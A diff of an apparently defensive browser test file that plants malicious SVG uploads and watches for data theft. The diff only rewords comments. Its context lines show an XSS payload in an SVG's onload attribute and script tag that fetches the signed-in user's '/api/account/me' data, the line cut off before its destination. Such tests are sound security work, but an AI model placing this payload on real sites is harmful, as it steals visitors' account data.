@@ -11,8 +11,8 @@ const STEAL = `fetch('/api/account/me').then((answer) => answer.text()).then((te
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${STEAL.replaceAll('"', '&quot;')}"><script>${STEAL.replaceAll('&', '&amp;').replaceAll('=>', '=&gt;')}</script></svg>`
 
 /**
- * Files as they would lie in the site if nobody had looked at them: neither the CMS nor the pull let them so far,
- * and this is about what is left when both have failed.
+ * Files as they would be on the site without any check: the CMS and the pull both refuse them, and this is about the
+ * protection that is left if both fail.
  */
 export const plantFiles = async (outDir: string): Promise<void> => {
   const files = {
@@ -39,7 +39,7 @@ export const SCRIPT_ENDINGS = [
   '.pdf',
 ]
 
-/** What a page asked for on behalf of whoever is signed in, and what of it was told to somebody. */
+/** What a page requested as the signed-in visitor, and what of it was sent to another host. */
 export const watchTheft = (page: Page): string[] => {
   const asked: string[] = []
   page.on('request', (request) => {
